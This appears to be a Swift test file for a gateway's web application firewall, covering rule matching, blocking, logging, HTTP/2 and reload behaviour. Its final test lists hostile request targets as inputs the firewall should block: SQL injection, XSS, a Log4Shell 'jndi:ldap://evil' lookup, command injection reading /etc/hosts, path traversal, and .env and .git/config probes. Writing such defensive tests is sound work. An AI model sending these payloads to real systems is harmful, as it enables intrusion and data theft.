// The web application firewall in the gateway: what rules see, what their decisions come to, what is passed on.

import ControlPlane
import GatehouseServer
import GatewayTestSupport
import TestSupport
import Telemetry
import Testing

@Suite struct InspectionTests {
    private static let rules = """
        SecRuleEngine On
        SecRequestBodyAccess On
        SecRequestBodyLimit 200000
        SecRequestBodyLimitAction ProcessPartial
        SecResponseBodyAccess On
        SecResponseBodyMimeType text/plain
        SecResponseBodyLimit 100000
        SecResponseBodyLimitAction ProcessPartial
        SecRule ARGS "@contains evil" \\
            "id:1,phase:2,deny,log,msg:'evil in %{MATCHED_VAR_NAME}',severity:CRITICAL,tag:'t'"
        SecRule REQUEST_HEADERS:X-Where "@streq away" "id:2,phase:1,redirect:https://away.test/,log"
        SecRule REQUEST_HEADERS:X-Where "@streq gone" "id:3,phase:1,drop,log"
        SecRule RESPONSE_BODY "@contains secret" "id:4,phase:4,deny,status:502,log,msg:'leak'"
        SecRule RESPONSE_HEADERS:X-Leak "@rx ." "id:5,phase:3,deny,log"
        SecRule REQUEST_URI_RAW "@contains ^" "id:6,phase:1,pass,log,msg:'no URI'"

        """

    /// A rule file that lives as long as the test.
    private struct Rules {
        let directory: TemporaryDirectory
        let path: String

        init(_ text: String = InspectionTests.rules) throws {
            directory = try TemporaryDirectory()
            path = try directory.write("rules.conf", Array(text.utf8))
        }

        func configuration(_ port: UInt16, waf: String = "{ rules: own }") -> String {
            "waf: \(waf)\nruleSets: { own: \(path) }\nroutes: [{ match: /, to: \"http://127.0.0.1:\(port)\" }]\n"
        }
    }

    private static let echo: ScriptedUpstream.Script = { stream, upstream in
        while let request = try upstream.takeRequest(from: stream) {
            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: \(request.body.count)\r\n\r\n"
            try stream.write(Array(head.utf8) + request.body)
        }
    }

    private func form(_ body: String) -> String {
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            + "Content-Length: \(body.utf8.count)\r\n\r\n\(body)"
    }

    @Test(arguments: ["query", "form", "form in pieces"])
    func `what a rule denies reaches no backend, and both logs say why`(_ way: String) throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let client = try gateway.connect()
        switch way {
        case "query": try client.write("GET /?a=1&b=evil HTTP/1.1\r\nHost: a\r\n\r\n")
        case "form": try client.write(form("a=1&b=evil"))
        default: try client.writeByteByByte(form("a=1&b=%65vil"))
        }
        let answer = try client.readResponse()
        #expect(answer.status == 403)
        #expect(!answer.text.contains("evil"))
        #expect(upstream.requests.isEmpty)
        let line = gateway.logLine()
        #expect(line["rule"] as? String == "1")
        #expect(line["status"] as? Int == 403)
        let match = try #require(gateway.matches(atLeast: 1).first)
        #expect(match["id"] as? Int == 1)
        #expect(match["msg"] as? String == "evil in ARGS:b")
        #expect(match["enforced"] as? Bool == true)
        #expect(match["severity"] as? String == "CRITICAL")
        #expect(match["tags"] as? [String] == ["t"])
        #expect(match["requestId"] as? String == line["id"] as? String)
        #expect((match["file"] as? String)?.hasSuffix("rules.conf") == true)
        #expect(gateway.metric("gatehouse_waf_blocked_total") == 1)
    }

    @Test(arguments: ["", "a=1", "a=" + String(repeating: "x", count: 70_000), String(repeating: "y", count: 900_000)])
    func `what no rule denies arrives as it was sent, held or not`(_ body: String) throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let client = try gateway.connect()
        // Twice on one connection: nothing of the first is left behind.
        for _ in 0..<2 {
            try client.write(form(body))
            let answer = try client.readResponse(to: "POST")
            #expect(answer.status == 200)
            #expect(answer.text == body)
        }
        let chunks = body.isEmpty ? "" : "\(String(body.utf8.count, radix: 16))\r\n\(body)\r\n"
        try client.write(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                + "Transfer-Encoding: chunked\r\n\r\n\(chunks)0\r\n\r\n")
        #expect(try client.readResponse(to: "POST").text == body)
        #expect(upstream.requests.map(\.text) == [body, body, body])
    }

    @Test(arguments: [0, 1, 65_400, 65_500, 65_536, 90_000])
    func `trailers of bodies that were held pass with their end`(_ count: Int) throws {
        let upstream = try ScriptedUpstream { stream, upstream in
            while let request = try upstream.takeRequest(from: stream) {
                let head = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
                let size = String(request.body.count, radix: 16)
                let chunk = count == 0 ? [] : Array("\(size)\r\n".utf8) + request.body + Array("\r\n".utf8)
                try stream.write(Array(head.utf8) + chunk + Array("0\r\nX-Answer: 2\r\n\r\n".utf8))
            }
        }
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let client = try gateway.connect()
        let body = String(repeating: "z", count: count)
        let chunk = count == 0 ? "" : "\(String(count, radix: 16))\r\n\(body)\r\n"
        for _ in 0..<2 {
            try client.write(
                "POST / HTTP/1.1\r\nHost: a\r\nTE: trailers\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\n\(chunk)0\r\nX-Sum: 1\r\nX-More: \(body.prefix(99))\r\n\r\n")
            let answer = try client.readResponse()
            #expect(answer.status == 200)
            #expect(answer.body == Array(body.utf8))
            #expect(answer.trailers == ["X-Answer: 2"])
        }
        #expect(upstream.requests.map(\.body.count) == [count, count])
        #expect(upstream.requests.allSatisfy { $0.trailers == ["X-Sum: 1", "X-More: \(body.prefix(99))"] })
    }

    @Test func `over HTTP/2 it is the same`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let stream = try gateway.connect()
        let client = HTTP2Client()
        let fields = [
            (":method", "POST"), (":scheme", "http"), (":authority", "a"), (":path", "/"),
            ("content-type", "application/x-www-form-urlencoded"),
        ]
        let body = Array(("a=" + String(repeating: "x", count: 150_000)).utf8)
        let good = client.request(fields, body: body)
        let bad = client.request(fields, body: Array("a=evil".utf8))
        try client.talk(over: stream) { $0.hasEnded(good) && $0.hasEnded(bad) }
        func status(_ request: Int32) -> String? {
            guard case .headers(_, let fields, _)? = client.answer(request).first else { return nil }
            return fields.first
        }
        #expect(status(good) == ":status: 200")
        #expect(status(bad) == ":status: 403")
        #expect(upstream.requests.map(\.body.count) == [body.count])
    }

    @Test(arguments: [nil, "fields.test"])
    func `rules see the host of an HTTP/2 request, once`(field: String?) throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules("""
            SecRuleEngine On
            SecRule &REQUEST_HEADERS:Host "!@eq 1" "id:1,phase:1,deny,status:400"
            SecRule REQUEST_HEADERS:Host "!@streq fields.test" "id:2,phase:1,deny,status:401"
            SecRule SERVER_NAME "!@streq fields.test" "id:3,phase:1,deny,status:402"

            """)
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let stream = try gateway.connect()
        let client = HTTP2Client()
        let host = field.map { [("host", $0)] } ?? []
        let request = client.request(
            [(":method", "GET"), (":scheme", "http"), (":authority", "fields.test"), (":path", "/")] + host)
        let answer = try client.finish(request, over: stream)
        guard case .headers(_, let fields, _)? = answer.first else { throw WireError.timedOut("an answer") }
        #expect(fields.first == ":status: 200")
    }

    @Test func `a client that waits for 100 is told to go on, once`() throws {
        let upstream = try ScriptedUpstream { stream, upstream in
            while let head = try stream.readHead() {
                try stream.write("HTTP/1.1 100 Continue\r\n\r\n")
                _ = try stream.read(exactly: 3)
                upstream.note(head)
                try stream.write("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
            }
        }
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let client = try gateway.connect()
        try client.write("POST / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n")
        #expect(try client.readHead()?.status == 100)
        try client.write("a=1")
        #expect(try client.readHead()?.status == 200)
    }

    @Test func `where it only detects, everything passes and is logged`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port, waf: "{ rules: own, mode: detect }"))
        #expect(try gateway.answer(to: form("a=evil"), method: "POST").text == "a=evil")
        let match = try #require(gateway.matches(atLeast: 1).first)
        #expect(match["id"] as? Int == 1)
        #expect(match["enforced"] as? Bool == false)
        #expect(gateway.logLine()["rule"] == nil)
    }

    @Test func `a rule can lead elsewhere, or say nothing at all`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let away = try gateway.answer(to: "GET / HTTP/1.1\r\nHost: a\r\nX-Where: away\r\n\r\n")
        #expect(away.status == 302)
        #expect(away["Location"] == "https://away.test/")
        let client = try gateway.connect()
        try client.write("GET / HTTP/1.1\r\nHost: a\r\nX-Where: gone\r\n\r\n")
        #expect(try client.readToEnd().isEmpty)
        #expect(upstream.requests.isEmpty)
    }

    @Test func `an answer that a rule denies is never seen`() throws {
        let upstream = try ScriptedUpstream { stream, upstream in
            while let request = try upstream.takeRequest(from: stream) {
                let body = request.startLine.contains("leak") ? "the secret" : "the weather"
                let more = request.startLine.contains("head") ? "X-Leak: 1\r\n" : ""
                try stream.write(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\(more)Content-Length: \(body.utf8.count)\r\n\r\n")
                for byte in body.utf8 { try stream.write([byte]) }
            }
        }
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        let client = try gateway.connect()
        for (path, status, text) in [
            ("/a", 200, "the weather"), ("/leak", 502, ""), ("/head", 403, ""), ("/b", 200, "the weather"),
        ] {
            try client.write("GET \(path) HTTP/1.1\r\nHost: a\r\n\r\n")
            let answer = try client.readResponse()
            #expect(answer.status == status, "\(path)")
            #expect(!answer.text.contains("secret"))
            if !text.isEmpty { #expect(answer.text == text) }
        }
        #expect(gateway.matches(atLeast: 2).map { $0["id"] as? Int } == [4, 5])
    }

    @Test func `an answer longer than rules look at passes whole`() throws {
        let body = String(repeating: "0123456789", count: 60_000)
        let upstream = try ScriptedUpstream.answering(
            "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)")
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        #expect(try gateway.answer(to: "GET / HTTP/1.1\r\nHost: a\r\n\r\n").text == body)
    }

    @Test func `a route can do without, and what has no route has the gateway's rules`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(
            """
            waf: own
            ruleSets: { own: \(rules.path) }
            routes:
              - { match: /open/, to: "http://127.0.0.1:\(upstream.port)", waf: off }
              - { match: /shut/, to: "http://127.0.0.1:\(upstream.port)" }

            """)
        #expect(try gateway.answer(to: "GET /open/?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 200)
        #expect(try gateway.answer(to: "GET /shut/?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 403)
        #expect(try gateway.answer(to: "GET /else?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 404)
        // A target that is no URI is refused, whatever rules say; they have their say in the log.
        #expect(try gateway.answer(to: "GET /^ HTTP/1.1\r\nHost: a\r\n\r\n").status == 404)
        #expect(try gateway.answer(to: "GET /\u{80}^ HTTP/1.1\r\nHost: a\r\n\r\n").status == 400)
        let identifiers = gateway.matches(atLeast: 4).compactMap { $0["id"] as? Int }
        #expect(identifiers.sorted() == [1, 1, 6, 6])
    }

    @Test func `rules that are wrong do not come into force, and those in force stay`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        try rules.directory.write("rules.conf", Array("SecRule ARGS \"@contians x\" \"id:1,phase:2,deny\"\n".utf8))
        let report = try gateway.reload(rules.configuration(upstream.port))
        let text = report.diagnostics.map { "\($0)" }.joined(separator: "\n")
        #expect(text.contains("rules.conf:1:15") && text.contains("contains"), "\(text)")
        #expect(try gateway.answer(to: "GET /?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 403)
        try rules.directory.write(
            "rules.conf", Array("SecRuleEngine On\nSecRule ARGS \"@contains x\" \"id:1,phase:2,deny\"\n".utf8))
        try gateway.reload(rules.configuration(upstream.port))
        #expect(try gateway.answer(to: "GET /?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 200)
        #expect(try gateway.answer(to: "GET /?a=x HTTP/1.1\r\nHost: a\r\n\r\n").status == 403)
    }

    @Test func `a firewall that a reload adds has its log, and its numbers, at once`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(TestGateway.everything(to: upstream))
        #expect(try gateway.answer(to: "GET /?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 200)
        #expect(gateway.metric("gatehouse_log_written_bytes_total{log=\"waf\"}") == nil)
        try gateway.reload(rules.configuration(upstream.port))
        #expect(try gateway.answer(to: "GET /?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 403)
        #expect(gateway.matches(atLeast: 1).first?["id"] as? Int == 1)
        #expect(eventually { (gateway.metric("gatehouse_log_written_bytes_total{log=\"waf\"}") ?? 0) > 0 })
        let text = String(decoding: gateway.server.metrics.exposition(), as: UTF8.self)
        #expect(text.split(separator: "\n").count { $0 == "# TYPE gatehouse_log_written_bytes_total counter" } == 1)
    }

    @Test func `a log that cannot be opened refuses the firewall that a reload adds, and all stays as it was`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(TestGateway.everything(to: upstream))
        let report = try gateway.reload(rules.configuration(upstream.port), logs: ("access.log", "none/waf.log"))
        #expect(report.outcome == .refused)
        #expect(report.diagnostics.contains { "\($0)".contains("gatehouse.yaml:1:") && "\($0)".contains("waf.log") })
        #expect(try gateway.answer(to: "GET /?a=evil HTTP/1.1\r\nHost: a\r\n\r\n").status == 200)
    }

    @Test func `the log moves with the configuration, also where there is no access log`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let rules = try Rules()
        let gateway = try TestGateway(rules.configuration(upstream.port))
        try gateway.reload(rules.configuration(upstream.port), logs: (nil, "moved.log"))
        #expect(eventually {
            _ = try? gateway.answer(to: "GET /?a=evil HTTP/1.1\r\nHost: a\r\n\r\n")
            return gateway.hasFile("moved.log")
        })
        #expect(gateway.matches(atLeast: 1, in: "moved.log").first?["id"] as? Int == 1)
    }

    @Test func `the built-in rules stop the best known attacks and let honest requests pass`() throws {
        let upstream = try ScriptedUpstream(script: Self.echo)
        let gateway = try TestGateway(
            "waf: basic\nroutes: [{ match: /, to: \"http://127.0.0.1:\(upstream.port)\" }]\n")
        let hostile = [
            "/?q=1%27%20or%20%271%27=%271", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/.git/config", "/a/.env",
            "/?x=$%7Bjndi:ldap://evil/a%7D", "/?cmd=;cat%20/etc/hosts", "/?f=/..%2f..%2fetc",
        ]
        for target in hostile {
            #expect(try gateway.answer(to: "GET \(target) HTTP/1.1\r\nHost: a\r\n\r\n").status == 403, "\(target)")
        }
        for target in ["/", "/?q=blue+shoes&page=2", "/search?q=O'Reilly", "/a/b.html?x=%26&y=%2B"] {
            #expect(try gateway.answer(to: "GET \(target) HTTP/1.1\r\nHost: a\r\n\r\n").status == 200, "\(target)")
        }
    }
}
